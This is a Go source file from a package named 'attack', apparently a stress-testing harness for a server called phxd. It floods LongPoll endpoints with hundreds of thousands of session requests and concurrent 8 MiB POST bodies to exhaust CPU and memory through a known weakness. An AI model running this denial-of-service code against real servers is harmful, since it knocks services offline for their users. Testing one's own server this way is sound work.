package attack

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// lpSessionWorkers is how many workers of LongPollSessions create sessions.
const lpSessionWorkers = 8

// LPBodySize is the size of LongPollPosts' bodies: 8 MiB, the limit the
// unfixed server accepted whole.
const LPBodySize = 8 << 20

// LongPoll (hole 8) runs LongPollSessions for the first half of its
// duration and LongPollPosts for the second (each alone would starve the
// other of the CPU), recording both into one Result. Count bounds the
// sessions (default 50,000: a flood, yet well under phxd's default
// -max-conns, so that the fresh-client probe is not refused by the global
// cap it fills).
func LongPoll(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("longpoll")
	d := o.Duration
	if d <= 0 {
		d = DefaultDuration
	}
	first, cancelFirst := context.WithTimeout(ctx, d/2)
	defer cancelFirst()
	lpSessions(first, t, rec, o.count(50_000))
	lpPosts(ctx, t, rec, min(40, o.sockets(40)))
	return rec.result()
}

// LongPollSessions creates LongPoll sessions as fast as the server answers:
// 8 workers over keep-alive connections from 8 source addresses, at most
// Count sessions (default 400,000, the 342k and more). A session
// is a GET answered with JSON status 410 and a token ("session:410"); a
// refused one answers another status, and its worker backs off (10 ms
// doubling to 1 s) so that a server closing the connection on each refusal
// is not met with port-exhausting churn.
func LongPollSessions(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("longpoll-sessions")
	lpSessions(ctx, t, rec, o.count(400_000))
	return rec.result()
}

// LongPollPosts has 40 workers (Sockets) POST 8 MiB bodies (one text
// push) to LongPoll sessions of their own, at once, each pausing 200 ms
// between POSTs: the bodies' concurrency is what costs memory. POST
// answers are recorded as "post:<status>".
func LongPollPosts(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("longpoll-posts")
	lpPosts(ctx, t, rec, min(40, o.sockets(40)))
	return rec.result()
}

func lpBase(t Target) string { return "http://" + t.Addr + "/socket/longpoll?vsn=2.0.0&token=" }

func lpSessions(ctx context.Context, t Target, rec *recorder, budget int64) {
	var sent atomic.Int64
	var wg sync.WaitGroup
	for w := range lpSessionWorkers {
		wg.Go(func() {
			cl := httpClient(t, w, rec, 1)
			defer cl.CloseIdleConnections()
			b := backoff{min: 10 * time.Millisecond, max: time.Second}
			for ctx.Err() == nil && sent.Add(1) <= budget {
				_, body := do(ctx, cl, rec, "session_http", http.MethodGet, lpBase(t)+"user:soak_lp"+strconv.Itoa(w), nil, nil)
				st, ok := lpStatus(body)
				if ok {
					rec.http("session", st)
				}
				if ok && st == 410 {
					b.d = 0
				} else {
					b.wait(ctx, time.Now(), false)
				}
			}
		})
	}
	wg.Wait()
}

func lpPosts(ctx context.Context, t Target, rec *recorder, posters int) {
	big := bigLPBody()
	var wg sync.WaitGroup
	for w := range posters {
		wg.Go(func() {
			cl := httpClient(t, lpSessionWorkers+w, rec, 1)
			defer cl.CloseIdleConnections()
			token := ""
			for ctx.Err() == nil {
				if token == "" {
					_, body := do(ctx, cl, rec, "session_http", http.MethodGet, lpBase(t)+"user:soak_lpbig"+strconv.Itoa(w), nil, nil)
					if token = lpToken(body); token == "" {
						sleepCtx(ctx, 100*time.Millisecond)
						continue
					}
				}
				st, body := do(ctx, cl, rec, "post", http.MethodPost, lpBase(t)+token,
					map[string]string{"Content-Type": "application/x-ndjson"}, big)
				if js, ok := lpStatus(body); ok && st == http.StatusOK && js != 200 {
					rec.http("post_json", js)
				}
				if st != http.StatusOK {
					token = "" // the session may be gone: start another
				}
				sleepCtx(ctx, 200*time.Millisecond)
			}
		})
	}
	wg.Wait()
}

// bigLPBody is one text push of LPBodySize bytes (an echo with a huge
// payload), as a LongPoll POST carries it.
func bigLPBody() []byte {
	head := `["1","1","room:soak_lp","echo",{"a":"`
	tail := `"}]`
	var b bytes.Buffer
	b.Grow(LPBodySize)
	b.WriteString(head)
	b.WriteString(strings.Repeat("z", LPBodySize-len(head)-len(tail)))
	b.WriteString(tail)
	return b.Bytes()
}

// lpToken reads a LongPoll answer's session token.
func lpToken(body []byte) string {
	var v struct {
		Token string `json:"token"`
	}
	if json.Unmarshal(body, &v) != nil {
		return ""
	}
	return v.Token
}
